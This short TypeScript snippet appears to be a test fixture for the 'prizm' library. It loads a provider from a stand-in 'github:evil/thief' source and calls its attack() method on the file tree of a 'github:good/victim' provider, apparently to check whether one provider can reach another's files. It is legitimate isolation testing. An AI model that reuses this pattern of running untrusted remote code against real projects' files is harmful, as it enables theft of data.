import { getProvider } from 'prizm';
import './secret.cjs';
const victim: any = await getProvider('github:good/victim');
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ dir: '{{dir}}', tree: new URL(victim.where()).pathname })) console.log(line);
